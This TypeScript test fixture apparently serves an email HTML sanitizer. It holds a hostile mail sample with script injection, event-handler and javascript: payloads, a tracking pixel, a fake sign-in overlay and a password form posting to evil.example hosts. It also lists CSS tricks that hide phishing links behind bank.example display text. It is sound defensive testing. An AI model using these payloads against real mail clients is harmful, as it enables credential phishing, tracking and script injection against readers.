/** Everything a mail can try; each leads to a host that nobody may ask. */
export const hostile = `<html><head><base href="https://base.evil.example/"><link rel="preconnect" href="https://hint.evil.example">
<link rel="stylesheet" href="https://css.evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://refresh.evil.example/">
<style>@import "https://import.evil.example/b.css"; body{background:url(https://ground.evil.example/c.png)}</style></head>
<body onload="top.location='https://onload.evil.example/'"><p>Dear Mia, the quote is ready.</p>
<script>top.location='https://script.evil.example/';parent.postMessage('ran','*')</script>
<img src="https://pixel.evil.example/open.gif?m=1" width="1" height="1"><img src="x" onerror="parent.postMessage('ran','*')">
<img src="https://photo.evil.example/a.png" srcset="https://set.evil.example/b.png 2x">
<div style="position:fixed;inset:0;z-index:99999;background:#fff url(https://style.evil.example/d.png)">Sign in again</div>
<svg><script>parent.postMessage('ran','*')</script><a xlink:href="javascript:parent.postMessage('ran','*')"><text>x</text></a></svg>
<iframe src="https://frame.evil.example/"></iframe><object data="https://object.evil.example/"></object>
<video autoplay poster="https://poster.evil.example/e.png" src="https://video.evil.example/f.mp4"></video>
<form action="https://form.evil.example/"><p>Your password</p><input name="password"><button id="go">Go on</button></form>
<p><a href="https://login.evil.example/account">https://bank.example/account</a> <a href="javascript:top.location='https://link.evil.example/'">here</a>
<a href="https://top.evil.example/" target="_top">there</a></p>
<blockquote>On Monday Mia wrote: please send the quote.</blockquote></body></html>`

const misled = (words: string) => `<a href="https://login.evil.example/x">${words}</a>`

/** Ways to keep a reader from seeing the mark at a link that misleads. */
export const hiding = [
  `<div style="font-size:6px"><div style="font-size:.5em;line-height:.8">${misled('https://bank.example/small')}</div></div>`,
  `<div style="height:0">${misled('https://bank.example/covered')}</div><div style="display:inline-block;width:100%;height:90px;background:#fff">x</div>`,
  `<p style="white-space:nowrap">${misled('https://bank.example/wide<span style="display:inline-block;width:2000px"></span>')}</p>`,
  `<p style="display:none">${misled('<p>https://bank.example/torn</p>')}</p>`,
  `<p style="white-space:nowrap;direction:rtl">${misled('<span style="float:left">https://bank.example/turned</span><span style="display:inline-block;width:900px"></span>')}</p>`,
  `<p style="color:#fff">${misled('<b style="color:#000">https://bank.example/pale</b>')}</p>`,
].join('<hr>')
